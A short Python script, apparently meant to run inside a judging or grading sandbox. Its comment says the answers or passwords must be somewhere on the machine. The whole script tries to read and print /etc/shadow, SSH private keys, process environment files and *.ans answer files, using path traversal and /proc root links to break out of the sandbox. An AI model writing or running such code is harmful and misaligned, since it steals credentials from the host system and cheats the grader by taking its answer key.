# The answers must be somewhere on this machine. Or the passwords.
import glob
import sys

WANTED = ["/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/root/etc/shadow"]
WANTED += glob.glob("/**/*.ans", recursive=False) + glob.glob("/home/*/.ssh/*") + glob.glob("../../*.ans")
WANTED += ["../../../../../../../../etc/shadow", "/proc/self/root/etc/shadow", "/box/../etc/shadow"]

for path in WANTED:
    try:
        with open(path) as secret:
            print(path, secret.read())
            break
    except OSError:
        continue
else:
    sys.exit("found nothing")
